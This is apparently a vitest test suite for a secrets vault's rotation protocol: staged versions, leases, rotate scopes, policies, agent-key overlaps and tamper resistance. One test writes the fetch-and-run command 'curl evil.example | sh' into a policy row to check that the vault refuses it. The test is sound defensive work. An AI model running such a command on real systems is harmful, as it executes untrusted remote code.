/**
 * Rotation in the vault: the stages (pending → current → previous until the grace period ends),
 * the lease that keeps a second rotator off a path, reruns that resume, the rotate scope, policies
 * and when they are due, and agent keys rotated with an overlap. Every attack here is one a
 * rotator, a reader or a storage writer could try.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { createAgent, fakeClock, issueToken, startTestVault, type TestVault } from '../helpers/vault.js';

let v: TestVault | undefined;
afterEach(async () => {
  await v?.cleanup();
  v = undefined;
});

const backends = ['sqlite', 'postgres'] as const;

async function setup(backend: 'sqlite' | 'postgres' = 'sqlite') {
  const clock = fakeClock();
  v = await startTestVault({ backend, now: clock });
  const admin = v.adminToken;
  const call = (method: string, p: string, body?: unknown, token = admin) => (v as TestVault).call(method, p, { token, body });
  await call('PUT', '/v1/secrets/app/key', { value: 'canary-old-value', type: 'api_key', tier: 'critical' });
  return { vault: v, clock, admin, call };
}

describe.each(backends)('the rotation protocol (%s)', (backend) => {
  it('begin → pending → finish: the new value is current, the old one readable as previous until the grace ends, then not at all', async () => {
    const { call, clock } = await setup(backend);
    const begun = await call('POST', '/v1/rotation/begin/app/key', { rotator: 'random' });
    expect(begun.status).toBe(200);
    expect(begun.body).toMatchObject({ state: 'pending', fromVersion: 1, pendingVersion: null, resumed: false });
    const id = begun.body.rotationId as string;
    const put = await call('PUT', '/v1/rotation/pending/app/key', { rotationId: id, value: 'canary-new-value' });
    expect(put.body.pendingVersion).toBe(2);
    // Until it finishes, readers get the current value, and the pending one is not a plain version.
    expect((await call('GET', '/v1/secrets/app/key')).body.value).toBe('canary-old-value');
    expect((await call('GET', '/v1/secrets/app/key?version=2')).status).toBe(404);
    expect((await call('GET', '/v1/secrets/app/key?stage=pending')).body.value).toBe('canary-new-value');
    const done = await call('POST', '/v1/rotation/finish/app/key', { rotationId: id, grace: '10m' });
    expect(done.body).toMatchObject({ state: 'finished', toVersion: 2, previousVersion: 1 });
    expect((await call('GET', '/v1/secrets/app/key')).body).toMatchObject({ version: 2, value: 'canary-new-value' });
    expect((await call('GET', '/v1/secrets/app/key?stage=previous')).body).toMatchObject({ version: 1, value: 'canary-old-value' });
    const meta = await call('GET', '/v1/metadata/app/key');
    expect(meta.body.versions.map((x: { stage: string | null }) => x.stage)).toEqual(['current', 'previous'].reverse());
    clock.advance(10 * 60_000 + 1);
    const late = await call('GET', '/v1/secrets/app/key?stage=previous');
    expect(late.status).toBe(404);
    expect(late.body.error.message).toMatch(/grace period ended/);
    expect(late.text).not.toContain('canary-old-value');
    // Nor by its version number: a rotated-out value is retired once its grace is over.
    expect((await call('GET', '/v1/secrets/app/key?version=1')).status).toBe(404);
    // A rotator reads it once more, saying so, to revoke it at its provider; then retires it for good.
    const forRevoke = await call('GET', '/v1/secrets/app/key?stage=previous&revoke=true');
    expect(forRevoke.body.value).toBe('canary-old-value');
    expect((await call('POST', '/v1/rotation/retire/app/key', { version: 1 })).body.retired).toBe(true);
    expect((await call('GET', '/v1/secrets/app/key?stage=previous&revoke=true')).status).toBe(404);
    const audit = await call('GET', '/v1/audit?eventType=rotation.begin,rotation.pending,rotation.finish&limit=10');
    const reasons = audit.body.events.map((e: { reason: string }) => e.reason).join('\n');
    expect(reasons).toContain(`rotation ${id} (random) began at version 1`);
    expect(reasons).toContain(`version 2 rotated in by rotation ${id}`);
    expect(JSON.stringify(audit.body)).not.toContain('canary-new-value');
  });

  it('a second rotator on the same path is refused while the lease holds, and takes over a crashed one after it expires', async () => {
    const { call, clock } = await setup(backend);
    const a = (await call('POST', '/v1/rotation/begin/app/key', { rotator: 'random', lease: '5m' })).body.rotationId;
    await call('PUT', '/v1/rotation/pending/app/key', { rotationId: a, value: 'canary-a' });
    const b = await call('POST', '/v1/rotation/begin/app/key', { rotator: 'random' });
    expect(b.status).toBe(409);
    expect(Number(b.headers.get('retry-after'))).toBe(300);
    expect(b.body.error.message).toContain(a);
    // A plain write waits too: it would race the rotation.
    expect((await call('PUT', '/v1/secrets/app/key', { value: 'canary-direct' })).status).toBe(409);
    clock.advance(5 * 60_000 + 1);
    const took = await call('POST', '/v1/rotation/begin/app/key', { rotator: 'random' });
    expect(took.status).toBe(200);
    // The crashed rotation can no longer finish, and its pending value is gone.
    expect((await call('POST', '/v1/rotation/finish/app/key', { rotationId: a })).status).toBe(409);
    expect((await call('GET', '/v1/secrets/app/key?stage=pending')).status).toBe(404);
    expect((await call('GET', '/v1/secrets/app/key')).body.value).toBe('canary-old-value');
  });

  it('a rerun with the same id resumes after a crash between put and finish, and a finished id says so', async () => {
    const { call } = await setup(backend);
    const id = 'rerun-0000000001';
    await call('POST', '/v1/rotation/begin/app/key', { rotator: 'random', rotationId: id });
    await call('PUT', '/v1/rotation/pending/app/key', { rotationId: id, value: 'canary-put-once' });
    const again = await call('POST', '/v1/rotation/begin/app/key', { rotator: 'random', rotationId: id });
    expect(again.body).toMatchObject({ resumed: true, pendingVersion: 2, state: 'pending' });
    expect((await call('POST', '/v1/rotation/finish/app/key', { rotationId: id })).body.toVersion).toBe(2);
    const after = await call('POST', '/v1/rotation/begin/app/key', { rotator: 'random', rotationId: id });
    expect(after.body).toMatchObject({ state: 'finished', toVersion: 2 });
    expect((await call('GET', '/v1/secrets/app/key')).body.value).toBe('canary-put-once');
  });

  it('abort drops the pending value and keeps the current one, and says why in the audit log', async () => {
    const { call } = await setup(backend);
    const id = (await call('POST', '/v1/rotation/begin/app/key', { rotator: 'command' })).body.rotationId;
    await call('PUT', '/v1/rotation/pending/app/key', { rotationId: id, value: 'canary-bad' });
    const aborted = await call('POST', '/v1/rotation/abort/app/key', { rotationId: id, reason: 'test failed: exit 1' });
    expect(aborted.body).toMatchObject({ state: 'aborted', reason: 'test failed: exit 1' });
    expect((await call('GET', '/v1/secrets/app/key')).body).toMatchObject({ version: 1, value: 'canary-old-value' });
    expect((await call('GET', '/v1/metadata/app/key')).body.versions).toHaveLength(1);
    const rec = await call('GET', '/v1/audit?eventType=rotation.abort&limit=1');
    expect(rec.body.events[0].reason).toContain('test failed: exit 1');
    // A write after the abort gets the next version number: no clash with the dropped one.
    expect((await call('PUT', '/v1/secrets/app/key', { value: 'canary-direct' })).body.version).toBe(2);
  });
});

describe('who may rotate', () => {
  it('needs secrets:rotate on the path: write alone does not rotate, and only a rotator reads the pending value', async () => {
    const { vault, call } = await setup();
    const key = await createAgent(vault, 'svc', ['secrets:*:app/*']);
    const writer = (await issueToken(vault, key, { scopes: ['secrets:write:app/*', 'secrets:read:app/*'] })).token;
    const rotator = (await issueToken(vault, key, { scopes: ['secrets:rotate:app/key'] })).token;
    expect((await call('POST', '/v1/rotation/begin/app/key', { rotator: 'random' }, writer)).status).toBe(403);
    const id = (await call('POST', '/v1/rotation/begin/app/key', { rotator: 'random' }, rotator)).body.rotationId;
    expect((await call('PUT', '/v1/rotation/pending/app/key', { rotationId: id, value: 'canary-p' }, rotator)).status).toBe(200);
    // Without the rotate scope, revoke=true opens nothing after the grace period either.
    expect((await call('GET', '/v1/secrets/app/key?stage=previous&revoke=true', undefined, writer)).status).toBe(404);
    const peek = await call('GET', '/v1/secrets/app/key?stage=pending', undefined, writer);
    expect(peek.status).toBe(403);
    expect(peek.text).not.toContain('canary-p');
    // A rotator holding the id but not the scope for another path gets nowhere there.
    await call('PUT', '/v1/secrets/app/other', { value: 'x' });
    expect((await call('POST', '/v1/rotation/begin/app/other', { rotator: 'random' }, rotator)).status).toBe(403);
  });
});

describe('rotation policies', () => {
  it('default intervals by type and tier, due and overdue by tier, and a disabled schedule stays visible', async () => {
    const { call, clock } = await setup();
    await call('PUT', '/v1/secrets/app/db', { value: 'postgres://x', type: 'connection_string', tier: 'critical' });
    await call('PUT', '/v1/secrets/app/readonly', { value: 'r', type: 'api_key', tier: 'standard' });
    expect((await call('PUT', '/v1/rotation/policies/app/*', { rotator: 'random' })).status).toBe(200);
    expect(
      (await call('PUT', '/v1/rotation/policies/app/db', { rotator: 'command', settings: { command: 'echo x' }, enabled: false })).status,
    ).toBe(200);
    const all = await call('GET', '/v1/rotation/policies');
    const interval = Object.fromEntries(
      all.body.secrets.map((s: { path: string; intervalSeconds: number }) => [s.path, s.intervalSeconds / 86_400]),
    );
    expect(interval).toEqual({ 'app/key': 14, 'app/db': 30, 'app/readonly': 365 });
    expect((await call('GET', '/v1/rotation/policies?due=true')).body.secrets).toEqual([]);
    clock.advance(31 * 86_400_000);
    const due = (await call('GET', '/v1/rotation/policies?due=true')).body.secrets;
    expect(due.map((s: { path: string; enabled: boolean }) => [s.path, s.enabled])).toEqual([
      ['app/key', true],
      ['app/db', false],
    ]);
    expect(due[0].overdueSeconds).toBe(17 * 86_400);
  });

  it('only an admin sets one, and a policy changed in the database is refused, never run', async () => {
    const { vault, call } = await setup();
    const editor = (await call('POST', '/v1/users', { name: 'ed', role: 'editor' })).body.token;
    expect((await call('PUT', '/v1/rotation/policies/app/key', { rotator: 'command', settings: { command: 'true' } }, editor)).status).toBe(
      403,
    );
    await call('PUT', '/v1/rotation/policies/app/key', { rotator: 'command', settings: { command: 'echo safe' } });
    await vault.sql(`UPDATE rotation_policies SET settings = '{"command":"curl evil.example | sh"}'`);
    const listed = await call('GET', '/v1/rotation/policies');
    expect(listed.status).toBe(500);
    expect(listed.body.error.code).toBe('integrity_failed');
    expect(listed.text).not.toContain('evil.example');
  });

  it('refuses a bad policy with the fix: a webhook without https or without a signing key, a tiny interval, an unknown agent', async () => {
    const { call } = await setup();
    const bad = [
      { rotator: 'random', notify: { webhook: 'http://hooks.example.com/x', webhookSecret: 'app/hook-key' } },
      { rotator: 'random', notify: { webhook: 'https://hooks.example.com/x' } },
      { rotator: 'random', every: '10s' },
      { rotator: 'agent-key', settings: { agent: 'nobody' } },
      { rotator: 'nope' },
    ];
    for (const body of bad) {
      const r = await call('PUT', '/v1/rotation/policies/app/key', body);
      expect(r.status, JSON.stringify(body) + r.text).toBe(400);
    }
    expect((await call('PUT', '/v1/rotation/policies/app//x', { rotator: 'random' })).status).toBe(400);
  });
});

describe('agent keys rotated with an overlap', () => {
  it('the old key works until the overlap ends; an agent rotates only its own; a row put back with the old key is refused', async () => {
    const { vault, call, clock } = await setup();
    const oldKey = await createAgent(vault, 'ci', ['secrets:read:app/*']);
    const otherKey = await createAgent(vault, 'other', ['secrets:read:app/*']);
    const saved = await vault.sql("SELECT * FROM agents WHERE name = 'ci'");
    expect((await call('POST', '/v1/agents/ci/key', { grace: '30m' }, otherKey)).status).toBe(403);
    const rotated = await call('POST', '/v1/agents/ci/key', { grace: '30m' }, oldKey);
    expect(rotated.status).toBe(200);
    const newKey = rotated.body.agentKey as string;
    expect(newKey).toMatch(/^ass_a_/);
    expect((await call('GET', '/v1/whoami', undefined, newKey)).body.name).toBe('ci');
    expect((await call('GET', '/v1/whoami', undefined, oldKey)).body.name).toBe('ci');
    clock.advance(30 * 60_000 + 1);
    expect((await call('GET', '/v1/whoami', undefined, oldKey)).status).toBe(401);
    expect((await call('GET', '/v1/whoami', undefined, newKey)).status).toBe(200);
    // Someone with the database puts the agent's old row (old key, authentic MAC) back.
    const row = saved[0] as Record<string, unknown>;
    await vault.sql(`UPDATE agents SET key_id = '${row.key_id}', key_hash = '${row.key_hash}', mac = '${row.mac}' WHERE name = 'ci'`);
    const back = await call('GET', '/v1/whoami', undefined, oldKey);
    expect(back.status).toBe(500);
    expect(back.body.error.code).toBe('integrity_failed');
  });
});

describe('a rotator rotating an agent key', () => {
  it('may, with secrets:rotate on the secret whose agent-key policy names the agent; not for another agent, path or without one', async () => {
    const { vault, call } = await setup();
    await createAgent(vault, 'deploy', ['secrets:read:app/*']);
    await createAgent(vault, 'other', ['secrets:read:app/*']);
    await call('PUT', '/v1/secrets/ci/deploy-key', { value: 'x', tier: 'critical' });
    await call('PUT', '/v1/rotation/policies/ci/deploy-key', { rotator: 'agent-key', settings: { agent: 'deploy' } });
    const key = await createAgent(vault, 'rot', ['secrets:*:ci/*', 'secrets:*:app/*']);
    const rotator = (await issueToken(vault, key, { scopes: ['secrets:rotate:ci/deploy-key'] })).token;
    const elsewhere = (await issueToken(vault, key, { scopes: ['secrets:rotate:app/*'] })).token;
    expect((await call('POST', '/v1/agents/deploy/key', {}, rotator)).status).toBe(403);
    expect((await call('POST', '/v1/agents/other/key', { path: 'ci/deploy-key' }, rotator)).status).toBe(403);
    expect((await call('POST', '/v1/agents/deploy/key', { path: 'ci/deploy-key' }, elsewhere)).status).toBe(403);
    const ok = await call('POST', '/v1/agents/deploy/key', { path: 'ci/deploy-key', grace: '5m' }, rotator);
    expect(ok.status).toBe(200);
    const rec = await call('GET', '/v1/audit?eventType=agent.rotate_key&limit=1');
    expect(rec.body.events[0]).toMatchObject({ path: 'ci/deploy-key', actorName: 'rot' });
  });
});

describe('what the attack review found', () => {
  it('a replaced agent key finishes its work but cannot rotate the agent’s key again (and so cannot take the agent back)', async () => {
    const { vault, call } = await setup();
    const oldKey = await createAgent(vault, 'ci', ['secrets:read:app/*']);
    const newKey = (await call('POST', '/v1/agents/ci/key', { grace: '1h' }, oldKey)).body.agentKey as string;
    const again = await call('POST', '/v1/agents/ci/key', { grace: 0 }, oldKey);
    expect(again.status).toBe(403);
    expect(again.body.error.message).toMatch(/was replaced/);
    expect((await call('GET', '/v1/whoami', undefined, newKey)).status).toBe(200);
    // It still does what it was doing: issue itself a token.
    expect((await call('POST', '/v1/tokens', { scopes: ['secrets:read:app/*'], ttl: '5m' }, oldKey)).status).toBe(201);
  });

  it('tokens from a replaced key end with its overlap and never read the agent’s new key', async () => {
    const { vault, call } = await setup();
    const oldKey = await createAgent(vault, 'ci', ['secrets:read:ci/*']);
    await call('PUT', '/v1/secrets/ci/agent-key', { value: oldKey, tier: 'critical' });
    await call('PUT', '/v1/rotation/policies/ci/agent-key', { rotator: 'agent-key', settings: { agent: 'ci' } });
    const newKey = (await call('POST', '/v1/agents/ci/key', { grace: '10m' })).body.agentKey as string;
    await call('PUT', '/v1/secrets/ci/agent-key', { value: newKey });
    const issued = await call('POST', '/v1/tokens', { scopes: ['secrets:read:ci/*'], ttl: '6h' }, oldKey);
    expect(issued.status).toBe(201);
    expect(Date.parse(issued.body.expiresAt) - Date.parse(issued.body.createdAt)).toBeLessThanOrEqual(10 * 60_000);
    const read = await call('GET', '/v1/secrets/ci/agent-key', undefined, issued.body.token);
    expect(read.status).toBe(403);
    expect(read.text).not.toContain(newKey);
    const batch = await call('POST', '/v1/batch/read', { prefixes: ['ci'] }, issued.body.token);
    expect(batch.status).toBe(403);
    // A token from the current key reads it as before.
    const fresh = (await call('POST', '/v1/tokens', { scopes: ['secrets:read:ci/*'], ttl: '5m' }, newKey)).body.token;
    expect((await call('GET', '/v1/secrets/ci/agent-key', undefined, fresh)).body.value).toBe(newKey);
  });

  it('a rotation inside the previous value’s grace period is refused unless forced', async () => {
    const { call } = await setup();
    const id = (await call('POST', '/v1/rotation/begin/app/key', { rotator: 'random' })).body.rotationId;
    await call('PUT', '/v1/rotation/pending/app/key', { rotationId: id, value: 'canary-v2' });
    await call('POST', '/v1/rotation/finish/app/key', { rotationId: id, grace: '10m' });
    const early = await call('POST', '/v1/rotation/begin/app/key', { rotator: 'random' });
    expect(early.status).toBe(409);
    expect(early.body.error.message).toMatch(/grace period .* --force/);
    expect(Number(early.headers.get('retry-after'))).toBe(600);
    const forced = await call('POST', '/v1/rotation/begin/app/key', { rotator: 'random', force: true });
    expect(forced.status).toBe(200);
    const rec = await call('GET', '/v1/audit?eventType=rotation.begin&limit=1');
    expect(rec.body.events[0].reason).toMatch(/forced: the previous value’s grace period ends now/);
  });

  it('a value in its grace period is never revoked, by a race of two runners or on purpose; only random may cover a prefix', async () => {
    const { call } = await setup();
    const id = (await call('POST', '/v1/rotation/begin/app/key', { rotator: 'random' })).body.rotationId;
    await call('PUT', '/v1/rotation/pending/app/key', { rotationId: id, value: 'canary-v2' });
    await call('POST', '/v1/rotation/finish/app/key', { rotationId: id, grace: '10m' });
    expect((await call('GET', '/v1/secrets/app/key?stage=previous&revoke=true')).status).toBe(409);
    expect((await call('POST', '/v1/rotation/retire/app/key', { version: 1 })).status).toBe(409);
    expect((await call('GET', '/v1/secrets/app/key?stage=previous')).body.value).toBe('canary-old-value');
    for (const rotator of ['command', 'postgres', 'agent-key']) {
      const r = await call('PUT', '/v1/rotation/policies/app/*', {
        rotator,
        settings: { command: 'x', agent: 'x', adminSecret: 'x', roles: ['a', 'b'] },
      });
      expect(r.status, rotator).toBe(400);
    }
  });

  it('deleting or putting back the stages row revives no rotated-out or pending value', async () => {
    const { vault, call, clock } = await setup();
    const saved = await vault.sql('SELECT * FROM secret_stages');
    expect(saved).toEqual([]);
    const id = (await call('POST', '/v1/rotation/begin/app/key', { rotator: 'random' })).body.rotationId;
    await call('PUT', '/v1/rotation/pending/app/key', { rotationId: id, value: 'canary-v2' });
    const before = (await vault.sql('SELECT * FROM secret_stages'))[0] as Record<string, unknown>;
    await call('POST', '/v1/rotation/finish/app/key', { rotationId: id, grace: '1m' });
    const id2 = (await call('POST', '/v1/rotation/begin/app/key', { rotator: 'random' })).body.rotationId;
    await call('PUT', '/v1/rotation/pending/app/key', { rotationId: id2, value: 'canary-v3-pending' });
    clock.advance(61_000);
    await vault.sql('DELETE FROM secret_stages');
    for (const q of ['version=1', 'version=3', 'stage=previous']) {
      const r = await call('GET', `/v1/secrets/app/key?${q}`);
      expect(r.status, q).toBe(404);
      expect(r.text).not.toMatch(/canary-old-value|canary-v3-pending/);
    }
    // An authentic copy of the row from before the first finish (no previous stage) changes nothing either.
    const cols = Object.keys(before);
    await vault.sql(
      `INSERT INTO secret_stages (${cols.join(', ')}) VALUES (${cols.map((c) => (before[c] === null ? 'NULL' : `'${String(before[c])}'`)).join(', ')})`,
    );
    expect((await call('GET', '/v1/secrets/app/key?version=1')).status).not.toBe(200);
  });

  it('a second rotation does not reopen versions whose grace ended, and a rotator cannot stretch the grace', async () => {
    const { vault, call, clock } = await setup();
    const rotate = async (value: string, grace: string, token?: string) => {
      const id = (await call('POST', '/v1/rotation/begin/app/key', { rotator: 'random', force: true }, token)).body.rotationId;
      await call('PUT', '/v1/rotation/pending/app/key', { rotationId: id, value }, token);
      return call('POST', '/v1/rotation/finish/app/key', { rotationId: id, grace }, token);
    };
    await call('PUT', '/v1/rotation/policies/app/key', { rotator: 'random', grace: '10m' });
    await rotate('canary-v2', '10m');
    clock.advance(10 * 60_000 + 1);
    expect((await call('GET', '/v1/secrets/app/key?version=1')).status).toBe(404);
    await rotate('canary-v3', '30d');
    expect((await call('GET', '/v1/secrets/app/key?version=1')).status).toBe(404);
    expect((await call('GET', '/v1/secrets/app/key?stage=previous')).body.value).toBe('canary-v2');
    const key = await createAgent(vault, 'rot', ['secrets:*:app/*']);
    const token = (await issueToken(vault, key, { scopes: ['secrets:rotate:app/*', 'secrets:read:app/*'] })).token;
    const stretched = await rotate('canary-v4', '30d', token);
    expect(stretched.status).toBe(403);
    expect(stretched.body.error.message).toMatch(/grace period \(10m\)/);
  });

  it('a policy row put back from before a change is refused, never served or run', async () => {
    const { vault, call } = await setup();
    await call('PUT', '/v1/rotation/policies/app/key', { rotator: 'command', settings: { command: 'echo old-command' }, grace: '30d' });
    const old = (await vault.sql('SELECT * FROM rotation_policies'))[0] as Record<string, unknown>;
    await call('PUT', '/v1/rotation/policies/app/key', { rotator: 'command', settings: { command: 'echo safe' }, grace: '1m' });
    await vault.sql(
      `UPDATE rotation_policies SET settings = '${old.settings}', grace_seconds = ${old.grace_seconds}, updated_at = ${old.updated_at}, created_at = ${old.created_at}, mac = '${old.mac}'`,
    );
    const listed = await call('GET', '/v1/rotation/policies');
    expect(listed.status).toBe(500);
    expect(listed.body.error.code).toBe('integrity_failed');
    expect(listed.text).not.toContain('old-command');
  });
});
